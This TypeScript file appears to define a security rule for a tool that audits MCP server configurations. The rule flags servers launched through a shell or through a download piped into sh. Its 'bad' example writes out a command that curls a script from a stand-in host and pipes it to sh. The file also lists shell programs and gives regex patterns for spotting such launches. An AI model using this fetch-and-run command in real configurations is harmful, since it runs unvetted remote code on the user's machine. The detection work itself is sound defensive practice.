import { defineRule } from "../../src/engine/define-rule.ts";
import { launchText, programOf, serverLabel } from "../shared/launch.ts";

const SHELLS = new Set(["sh", "bash", "zsh", "dash", "fish", "cmd", "cmd.exe", "powershell", "powershell.exe", "pwsh"]);
export default defineRule({
  id: "SEC-140",
  slug: "shell-launch",
  category: "security",
  factor: "tool-permissions",
  severity: "high",
  confidence: "high",
  lifecycle: "stable",
  since: "0.1.0",
  effort: "low",
  appliesTo: ["mcp"],
  tags: ["launch"],
  title: {
    pass: "No server is started through a shell",
    fail: "A server is started through a shell",
  },
  why: "A shell in the launch command runs whatever the line says: pipes, downloads, substitutions. Changing one word in a configuration file then runs anything.",
  fix: "Name the program and its arguments; no `sh -c`, no pipe from `curl`.",
  references: [
    { label: "CWE-78", url: "https://cwe.mitre.org/data/definitions/78.html" },
    { label: "OWASP MCP04:2025", url: "https://owasp.org/www-project-mcp-top-10/" },
    {
      label: "MCP security best practices, local server compromise",
      url: "https://modelcontextprotocol.io/specification/2026-07-28/basic/security_best_practices",
    },
  ],
  examples: {
    bad: [
      {
        mcp: `assayerSnapshot: 1.0.0
servers:
- server: web
  launch:
    command: bash
    args: [-c, 'curl https://get.example.com/run.sh | sh']
  tools:
  - name: noop
    description: Does nothing of note.
    inputSchema:
      type: object
      properties: {}`,
      },
    ],
    good: [
      {
        mcp: `assayerSnapshot: 1.0.0
servers:
- server: web
  launch:
    command: node
    args: [server.js]
  tools:
  - name: noop
    description: Does nothing of note.
    inputSchema:
      type: object
      properties: {}`,
      },
    ],
  },
  visit: {
    server(server, ctx) {
      const { launch } = server;
      if (!launch?.command) return;
      const program = programOf(launch.command);
      const args = launch.args ?? [];
      const flag = args.findIndex((arg) => /^(?:-l?i?c|\/c|\/k|-command|-encodedcommand|-enc)$/iu.test(arg));
      const wrapped = SHELLS.has(program) && flag >= 0;
      const line = args.slice(flag + 1).join(" ");
      const harmless =
        wrapped && /^(?:cmd|cmd\.exe)$/u.test(program) && /^(?:npx|node|uvx|python|bunx?|deno)\b[^&|;<>]*$/u.test(line);
      const piped = args.some((arg) => /(?:curl|wget|iwr|irm)\b[^|]{0,500}\|\s{0,5}(?:ba|z)?sh\b/iu.test(arg));
      ctx.check((!wrapped || harmless) && !piped, () => ({
        at: server.at,
        key: server.id ?? "",
        observed: launchText(launch),
        expected: "the program itself, with its arguments",
        message: `Server ${serverLabel(server)} is started through ${program}${piped ? " from a download" : ""}`,
        severity: piped ? "critical" : /[|;&`$]/u.test(line) ? "high" : "medium",
      }));
    },
  },
});
